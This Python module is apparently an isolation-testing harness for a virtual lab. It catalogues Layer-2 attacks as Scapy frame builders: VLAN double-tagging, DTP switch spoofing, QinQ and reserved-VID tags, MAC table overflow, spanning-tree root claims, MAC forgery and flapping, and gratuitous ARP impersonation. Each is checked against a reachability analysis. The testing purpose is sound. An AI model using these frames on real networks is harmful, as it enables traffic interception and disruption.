"""The attack catalogue: VLAN-leak and MAC-forgery attacks, each a small documented unit.

An attack knows the frames it sends (built with Scapy), from which positions it makes sense,
what counts as its success, and which configuration would make that success expected rather
than a failure of isolation. It never knows the lab: what may be reached comes from the static
isolation analysis (`Context.reach`), so no verdict rests on per-lab expectations.

Every frame an attack case sends carries the case's marker in its payload, so arrivals are
recognised by bytes alone, on any target.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import ClassVar

from lab.reachability import SEG_SWITCH, Reachability
from lab.targets import Target, TargetRun
from lab.topology import SecurityConfig, SwitchPortConfig, TopologyConfig

BROADCAST = "ff:ff:ff:ff:ff:ff"


@dataclass(frozen=True)
class Position:
    """Where an attacker sits: a VM's adapter or a physical machine's adapter."""

    endpoint: str
    kind: str  # "vm" or "machine"
    mac: str
    portgroup: str | None = None
    security: SecurityConfig | None = None  # a VM's, resolved against its switch
    switch_port: str | None = None  # a machine's external switch port, "pswitch1.gi4"
    port_config: SwitchPortConfig | None = None


def positions(config: TopologyConfig) -> dict[str, Position]:
    """Every attacker position of a topology, by endpoint id."""
    found: dict[str, Position] = {}
    for host in config.hosts.values():
        groups = {pg: (vs, vs.portgroups[pg]) for vs in host.vswitches.values() for pg in vs.portgroups}
        for vm in host.vms.values():
            for adapter in vm.adapters.values():
                vswitch, group = groups[adapter.portgroup]
                security = SecurityConfig(*(
                    getattr(group.security, k) if getattr(group.security, k) is not None
                    else getattr(vswitch.security, k)
                    for k in ("promiscuous", "mac_changes", "forged_transmits")))
                found[f"{vm.name}.{adapter.name}"] = Position(
                    f"{vm.name}.{adapter.name}", "vm", adapter.mac, adapter.portgroup, security)
    peers = dict(config.links) | {b: a for a, b in config.links}
    for machine in config.endpoints.values():
        for adapter in machine.adapters.values():
            eid = f"{machine.name}.{adapter.name}"
            port = peers.get(eid)
            switch, _, name = (port or "").partition(".")
            port_config = config.switches[switch].ports.get(name) if switch in config.switches else None
            found[eid] = Position(eid, "machine", adapter.mac, switch_port=port if port_config else None,
                                  port_config=port_config)
    return dict(sorted(found.items()))


@dataclass
class Context:
    """One attack from one position: the target to open runs on, and what may be reached."""

    target: Target
    config: TopologyConfig
    analysis: Reachability
    position: Position
    positions: dict[str, Position]
    marker: bytes
    vlans: list[int] = field(default_factory=list)

    def open(self) -> TargetRun:
        return self.target.open()

    @property
    def at(self) -> str:
        return self.position.endpoint

    def reaches(self, a: str, b: str) -> bool:
        return a == b or self.analysis.reaches(a, b)

    @property
    def observed(self) -> list[str]:
        """Endpoints where frames are delivered: adapters of VMs, the VMkernel, machines."""
        kinds = self.analysis.graph.nodes
        return [e for e in self.analysis.endpoints
                if kinds[e].get("endpoint_kind") in ("vm-adapter", "vmknic", "endpoint-adapter")]

    @property
    def reach(self) -> frozenset[str]:
        """The endpoints the configuration lets the attacker's frames reach."""
        return frozenset(e for e in self.observed if self.reaches(self.at, e))

    def payload(self, note: bytes = b"") -> bytes:
        return (self.marker + note).ljust(46, b".")

    def marked(self, run: TargetRun, endpoint: str) -> list[bytes]:
        return [f for f in run.received(endpoint) if self.marker in f]

    def crossed(self, run: TargetRun) -> list[str]:
        """Endpoints outside the attacker's reach that a marked frame arrived at."""
        outside = set(self.observed) - self.reach
        return sorted(e for e in outside if self.marked(run, e))

    def victims(self) -> list[Position]:
        return [p for p in self.positions.values() if p.endpoint != self.at]

    def witness(self, victim: Position) -> Witness | None:
        """Someone whose unicast to the victim, with no attack, reaches the victim and only it.

        Found by control runs on the target itself (untagged first, then tagged with each VLAN
        for trunk-side witnesses), so a finding is always a change the attack made, never
        traffic that would have gone astray anyway.
        """
        for p in self.positions.values():
            if p.endpoint in (self.at, victim.endpoint) or not self.reaches(p.endpoint, victim.endpoint):
                continue
            for vlan in [None, *self.vlans]:
                candidate = Witness(p, vlan)
                run = self.open()
                run.send(victim.endpoint, [bytes(_ether(victim.mac, BROADCAST) / bytes(46))])
                run.send(p.endpoint, [candidate.frame(victim.mac, self.payload(b"control"))])
                if self.marked(run, victim.endpoint) and not self.marked(run, self.at):
                    return candidate
        return None

    def same_vswitch(self, *endpoints: str) -> bool:
        """All these endpoints are adapters on one virtual switch (frames between them stay in it)."""
        graph = self.analysis.graph
        switches: set[str] = set()
        for endpoint in endpoints:
            if graph.nodes[endpoint].get("endpoint_kind") not in ("vm-adapter", "vmknic"):
                return False
            switches |= {graph.nodes[n]["owner"] for n in graph.neighbors(endpoint)
                         if graph.nodes[n].get("segment_kind") == "vswitch"}
        return len(switches) == 1

    def native_vlan_exposure(self) -> str | None:
        """Why a tag could come off on the physical network: a trunk's native VLAN in reach."""
        for domain in self.analysis.domain_of(self.at):
            for segment in domain.segments:
                data = self.analysis.graph.nodes[segment]
                if data["segment_kind"] != SEG_SWITCH:
                    continue
                switch = self.config.switches[data["owner"]]
                natives = sorted({p.native_vlan for p in switch.ports.values() if p.mode == "trunk"})
                if data["vlan"] in natives:
                    return (f"{switch.name}'s trunks carry native VLAN {data['vlan']} untagged, "
                            f"and {self.at} can send into VLAN {data['vlan']}")
        return None

    def forged_exposure(self) -> str | None:
        """Why a forged source could leave the attacker's port: the configuration allows it."""
        p = self.position
        if p.kind == "machine":
            return "a physical port checks no source address (no port security)"
        if p.security and p.security.forged_transmits:
            return f"port group {p.portgroup} accepts forged transmits"
        return None


@dataclass(frozen=True)
class Witness:
    """A third party whose unicast to a victim shows where the victim's traffic goes."""

    position: Position
    vlan: int | None  # the tag its frames need to reach the victim (a trunk-side witness)

    @property
    def endpoint(self) -> str:
        return self.position.endpoint

    def frame(self, dst: str, payload: bytes) -> bytes:
        from scapy.layers.l2 import Dot1Q

        pkt = _ether(self.position.mac, dst)
        if self.vlan is not None:
            pkt = pkt / Dot1Q(vlan=self.vlan)
        return bytes(pkt / payload)


@dataclass(frozen=True)
class Success:
    """What an attack achieved, in a sentence, and the run that shows it."""

    detail: str
    run: TargetRun
    #: the attack saw it happen where no setting can explain it (inside a virtual switch,
    #: which learns nothing): a leak whatever the configuration allows elsewhere
    unexplained: bool = False


class Attack:
    """Base of the catalogue. Subclasses send frames in `run` and return a Success or None."""

    name: ClassVar[str]
    family: ClassVar[str]  # "vlan-leak" or "mac-forgery"
    boundary: ClassVar[str]  # the boundary the attack tries to cross
    summary: ClassVar[str]

    def not_applicable(self, ctx: Context) -> str | None:
        """Why the attack cannot be tried from this position, or None."""
        return None

    def run(self, ctx: Context) -> Success | None:  # pragma: no cover - abstract
        raise NotImplementedError

    def exposed_by(self, ctx: Context) -> str | None:
        """The configuration that allows this attack to work from here, or None (a leak)."""
        return None


def _ether(src: str, dst: str):
    from scapy.layers.l2 import Ether

    return Ether(src=src, dst=dst)


class _LeakAttack(Attack):
    """VLAN leaks: success is a marked frame arriving outside the attacker's reach."""

    family = "vlan-leak"
    boundary = "VLAN"

    def frames(self, ctx: Context) -> Iterator[bytes]:  # pragma: no cover - abstract
        raise NotImplementedError

    def before(self, ctx: Context, run: TargetRun) -> None:
        """Anything the attacker does first (negotiate a trunk, ask for promiscuous mode)."""

    def run(self, ctx: Context) -> Success | None:
        run = ctx.open()
        self.before(ctx, run)
        run.send(ctx.at, list(self.frames(ctx)))
        crossed = ctx.crossed(run)
        if crossed:
            return Success(f"reached {', '.join(crossed)}", run)
        return None


class DoubleTagging(_LeakAttack):
    name = "double-tagging"
    summary = "802.1Q double tags (outer: a VLAN the attacker is in, inner: another), hoping the outer comes off"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        from scapy.layers.l2 import Dot1Q

        for outer in ctx.vlans:
            for inner in ctx.vlans:
                if inner != outer:
                    yield bytes(_ether(ctx.position.mac, BROADCAST) / Dot1Q(vlan=outer)
                                / Dot1Q(vlan=inner) / ctx.payload(b"dt"))

    def exposed_by(self, ctx: Context) -> str | None:
        return ctx.native_vlan_exposure()


class ForeignTag(_LeakAttack):
    name = "foreign-tag"
    summary = "a single 802.1Q tag of each VLAN, from wherever the attacker is"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        from scapy.layers.l2 import Dot1Q

        for vlan in ctx.vlans:
            yield bytes(_ether(ctx.position.mac, BROADCAST) / Dot1Q(vlan=vlan) / ctx.payload(b"ft"))


class SwitchSpoofing(_LeakAttack):
    name = "switch-spoofing"
    summary = "DTP desirable/trunk announcements, then tagged frames of every VLAN"

    def before(self, ctx: Context, run: TargetRun) -> None:
        from scapy.contrib.dtp import DTP, DTPDomain, DTPNeighbor, DTPStatus, DTPType
        from scapy.layers.l2 import LLC, SNAP, Dot3

        mac = ctx.position.mac
        run.send(ctx.at, [bytes(Dot3(src=mac, dst="01:00:0c:cc:cc:cc") / LLC() / SNAP()
                                / DTP(tlvlist=[DTPDomain(), DTPStatus(status=bytes([status])),
                                               DTPType(), DTPNeighbor(neighbor=mac)]))
                          for status in (0x03, 0x81)])

    def frames(self, ctx: Context) -> Iterator[bytes]:
        return ForeignTag().frames(ctx)

    def exposed_by(self, ctx: Context) -> str | None:
        port = ctx.position.port_config
        if port is not None and port.mode.startswith("dynamic"):
            return f"{ctx.position.switch_port} negotiates trunking ({port.mode})"
        return None


class UntaggedIntoTrunk(_LeakAttack):
    name = "untagged-into-trunk"
    summary = "untagged broadcast and unicast to every MAC, for whichever native or untagged VLAN takes them"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        yield bytes(_ether(ctx.position.mac, BROADCAST) / ctx.payload(b"ut"))
        for victim in ctx.victims():
            yield bytes(_ether(ctx.position.mac, victim.mac) / ctx.payload(b"ut"))


class ReservedVids(_LeakAttack):
    name = "reserved-vids"
    summary = "VID 0 (priority tags, also hiding a real tag) and VID 4095"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        from scapy.layers.l2 import Dot1Q

        mac = ctx.position.mac
        yield bytes(_ether(mac, BROADCAST) / Dot1Q(vlan=0) / ctx.payload(b"v0"))
        yield bytes(_ether(mac, BROADCAST) / Dot1Q(vlan=4095) / ctx.payload(b"v4095"))
        for vlan in ctx.vlans:
            yield bytes(_ether(mac, BROADCAST) / Dot1Q(vlan=0) / Dot1Q(vlan=vlan) / ctx.payload(b"v0h"))

    def exposed_by(self, ctx: Context) -> str | None:
        return ctx.native_vlan_exposure()  # an access port takes a priority tag into its VLAN


class QinQTags(_LeakAttack):
    name = "qinq-tags"
    summary = "0x88a8 and 0x9100 outer tags over an 802.1Q tag of each VLAN"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        from scapy.layers.l2 import Dot1Q, Ether

        mac = ctx.position.mac
        for tpid in (0x88A8, 0x9100):
            for vlan in ctx.vlans:
                outer = Ether(src=mac, dst=BROADCAST, type=tpid) / Dot1Q(vlan=vlan, type=0x8100)
                yield bytes(outer / Dot1Q(vlan=vlan) / ctx.payload(b"qq"))


class FloodWatch(_LeakAttack):
    name = "flood-watch"
    summary = "broadcast, multicast and unknown unicast, watched from every other VLAN"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        mac = ctx.position.mac
        for dst in (BROADCAST, "01:00:5e:00:00:fb", "33:33:00:00:00:01", "02:ff:ff:ff:ff:01"):
            yield bytes(_ether(mac, dst) / ctx.payload(b"fl"))


class PromiscuousAcrossVlans(Attack):
    name = "promiscuous-across-vlans"
    family = "vlan-leak"
    boundary = "VLAN"
    summary = "a port in promiscuous mode watching the traffic of endpoints outside its reach"

    def not_applicable(self, ctx: Context) -> str | None:
        if ctx.position.kind != "vm":
            return "a physical NIC sees its own wire in any mode; the analysis counts that already"
        return None

    def run(self, ctx: Context) -> Success | None:
        run = ctx.open()
        run.set_promiscuous(ctx.at)
        talkers = [p for p in ctx.victims() if not ctx.reaches(p.endpoint, ctx.at)]
        for talker in talkers:
            run.send(talker.endpoint, [bytes(_ether(talker.mac, BROADCAST) / ctx.payload(b"pr"))]
                     + [bytes(_ether(talker.mac, other.mac) / ctx.payload(b"pr")) for other in ctx.victims()])
        if ctx.marked(run, ctx.at):
            return Success(f"{ctx.at} saw frames of {', '.join(t.endpoint for t in talkers)}", run)
        return None


class CrossSwitch(_LeakAttack):
    name = "cross-switch"
    summary = "frames to every MAC in the lab, untagged and in every VLAN, to cross into another switch"
    boundary = "switch"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        from scapy.layers.l2 import Dot1Q

        mac = ctx.position.mac
        for victim in ctx.victims():
            yield bytes(_ether(mac, victim.mac) / ctx.payload(b"cs"))
            for vlan in ctx.vlans:
                yield bytes(_ether(mac, victim.mac) / Dot1Q(vlan=vlan) / ctx.payload(b"cs"))


class StpRootClaim(_LeakAttack):
    name = "stp-root-claim"
    summary = "spanning-tree BPDUs claiming the root bridge (priority 0)"
    boundary = "switch"

    def frames(self, ctx: Context) -> Iterator[bytes]:
        from scapy.layers.l2 import LLC, STP, Dot3

        mac = ctx.position.mac
        yield bytes(Dot3(src=mac, dst="01:80:c2:00:00:00") / LLC() / STP(rootid=0, rootmac=mac, bridgeid=0,
                                                                        bridgemac=mac)
                    / ctx.payload(b"stp"))


class MacTableOverflow(Attack):
    name = "mac-table-overflow"
    family = "vlan-leak"
    boundary = "MAC"
    summary = "random source MACs until tables are full, then watch where a victim's unicast goes"

    def run(self, ctx: Context) -> Success | None:
        sizes = [s.mac_table_size for s in ctx.config.switches.values()] or [64]
        rng = random.Random(ctx.marker)
        flood = []
        for _ in range(max(sizes) + 16):
            src = "02:" + ":".join(f"{rng.randrange(256):02x}" for _ in range(5))
            flood.append(bytes(_ether(src, BROADCAST) / bytes(46)))
        pairs = [(v, ctx.witness(v)) for v in ctx.victims() if v.endpoint in ctx.reach]
        run = ctx.open()  # after the witnesses' control runs: on a live target a run resets all
        run.send(ctx.at, flood)
        for victim, witness in pairs:
            if witness is None:
                continue
            run.send(victim.endpoint, [bytes(_ether(victim.mac, witness.position.mac) / bytes(46))])
            run.send(witness.endpoint, [witness.frame(victim.mac, ctx.payload(b"ov"))])
        if ctx.marked(run, ctx.at):
            return Success(f"{ctx.at} received unicast meant for others after the flood", run)
        return None

    def exposed_by(self, ctx: Context) -> str | None:
        for domain in ctx.analysis.domain_of(ctx.at):
            for segment in domain.segments:
                data = ctx.analysis.graph.nodes[segment]
                if data["segment_kind"] == SEG_SWITCH:
                    size = ctx.config.switches[data["owner"]].mac_table_size
                    return f"{data['owner']} learns at most {size} MACs and floods unknown unicast when full"
        return None


# -- MAC forgery ------------------------------------------------------------------------------

class _ForgeryAttack(Attack):
    """Frames with a source address the attacker does not own: success is any arriving."""

    family = "mac-forgery"
    boundary = "MAC"
    what: ClassVar[str] = "frames with another's source"

    def frames(self, ctx: Context) -> list[bytes]:  # pragma: no cover - abstract
        raise NotImplementedError

    def run(self, ctx: Context) -> Success | None:
        run = ctx.open()
        run.send(ctx.at, self.frames(ctx))
        landed = [e for e in ctx.observed if ctx.marked(run, e)]
        return Success(f"{self.what} reached {', '.join(landed)}", run) if landed else None

    def exposed_by(self, ctx: Context) -> str | None:
        return ctx.forged_exposure()


class ForgedTransmit(_ForgeryAttack):
    name = "forged-transmit"
    summary = "frames sent with each victim's MAC as their source"

    def frames(self, ctx: Context) -> list[bytes]:
        return [bytes(_ether(v.mac, BROADCAST) / ctx.payload(b"fx")) for v in ctx.victims()]


class MacChange(Attack):
    name = "mac-change"
    family = "mac-forgery"
    boundary = "MAC"
    summary = "the guest sets its adapter's MAC to a victim's, then waits for the victim's traffic"

    def not_applicable(self, ctx: Context) -> str | None:
        return None if ctx.position.kind == "vm" else "only a virtual adapter has a port to ask"

    def run(self, ctx: Context) -> Success | None:
        for victim in ctx.victims():
            witness = ctx.witness(victim)
            if witness is None:
                continue
            run = ctx.open()
            run.set_mac(ctx.at, victim.mac)
            run.send(victim.endpoint, [bytes(_ether(victim.mac, BROADCAST) / bytes(46))])
            run.send(witness.endpoint, [witness.frame(victim.mac, ctx.payload(b"mc"))])
            if ctx.marked(run, ctx.at):
                return Success(f"{ctx.at} received {witness.endpoint}'s unicast to {victim.endpoint}", run)
        return None

    def exposed_by(self, ctx: Context) -> str | None:
        p = ctx.position
        if p.security and p.security.mac_changes:
            return f"port group {p.portgroup} accepts MAC address changes"
        return None


class MacFlapping(_ForgeryAttack):
    name = "mac-flapping"
    summary = "the victim's MAC as source, again and again, so a learning switch moves it"

    def run(self, ctx: Context) -> Success | None:
        found: list[Success] = []
        for victim in ctx.victims():
            witness = ctx.witness(victim)
            if witness is None:
                continue
            run = ctx.open()
            run.send(victim.endpoint, [bytes(_ether(victim.mac, BROADCAST) / bytes(46))])
            run.send(ctx.at, [bytes(_ether(victim.mac, BROADCAST) / bytes(46))] * 3)
            run.send(witness.endpoint, [witness.frame(victim.mac, ctx.payload(b"mf"))])
            stolen = ctx.marked(run, ctx.at)
            lost = not ctx.marked(run, victim.endpoint)
            if stolen or lost:
                what = "received" if stolen else "diverted away from the victim"
                inside = stolen and ctx.same_vswitch(ctx.at, victim.endpoint, witness.endpoint)
                found.append(Success(f"{witness.endpoint}'s unicast to {victim.endpoint} was {what}"
                                     + (" inside one virtual switch" if inside else ""), run, inside))
        return next((s for s in found if s.unexplained), found[0] if found else None)


class BadSource(_ForgeryAttack):
    name = "bad-source"
    summary = "group, broadcast and all-zero source MACs"
    what = "frames with an impossible source"

    def frames(self, ctx: Context) -> list[bytes]:
        return [bytes(_ether(src, BROADCAST) / ctx.payload(b"bs"))
                for src in ("01:00:5e:00:00:01", BROADCAST, "00:00:00:00:00:00")]


class ArpImpersonation(_ForgeryAttack):
    name = "garp-rarp-impersonation"
    summary = "gratuitous ARP and RARP announcing each victim's MAC, as a migrating VM would"
    what = "announcements of others' MACs"

    def frames(self, ctx: Context) -> list[bytes]:
        from scapy.layers.l2 import ARP, Ether

        frames = []
        for victim in ctx.victims():
            frames.append(bytes(Ether(src=victim.mac, dst=BROADCAST) / ARP(
                op=2, hwsrc=victim.mac, psrc="198.18.255.254", hwdst=BROADCAST, pdst="198.18.255.254")
                / ctx.payload(b"ga")))
            frames.append(bytes(Ether(src=victim.mac, dst=BROADCAST, type=0x8035) / ARP(
                op=3, hwsrc=victim.mac, hwdst=victim.mac) / ctx.payload(b"ra")))
        return frames


#: The catalogue, in report order.
CATALOGUE: tuple[Attack, ...] = (
    DoubleTagging(), ForeignTag(), SwitchSpoofing(), UntaggedIntoTrunk(), ReservedVids(), QinQTags(),
    FloodWatch(), PromiscuousAcrossVlans(), CrossSwitch(), MacTableOverflow(), StpRootClaim(),
    ForgedTransmit(), MacChange(), MacFlapping(), BadSource(), ArpImpersonation(),
)


def by_name(names: Sequence[str] | None = None) -> list[Attack]:
    if not names:
        return list(CATALOGUE)
    known = {a.name: a for a in CATALOGUE}
    return [known[n] for n in names]
